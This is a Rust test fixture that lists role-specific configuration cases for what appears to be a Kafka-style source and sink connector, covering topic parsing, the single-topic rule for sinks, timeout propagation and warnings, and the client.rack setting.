/// Cases that only hold for one role.
pub(super) const ONE_ROLE: &[Case] = &[
    Case { settings: &[("topic", "a,b c")], role: Some(Role::Source), expect: Engine(|e| e.topics == ["a", "b", "c"]) },
    Case { settings: &[("topic", "a,b")], role: Some(Role::Sink), expect: Refused("it takes one") },
    Case {
        settings: &[("request.timeout.ms", "40000")],
        role: Some(Role::Sink),
        expect: Client(&[("socket.timeout.ms", "40000"), ("request.timeout.ms", "40000")]),
    },
    Case {
        settings: &[("request.timeout.ms", "90000"), ("semantic", "EXACTLY_ONCE")],
        role: Some(Role::Sink),
        expect: Warned("longer than `transaction.timeout.ms`"),
    },
    Case { settings: &[("client.rack", "eu-1a")], role: Some(Role::Sink), expect: Client(&[("client.rack", "eu-1a")]) },
];
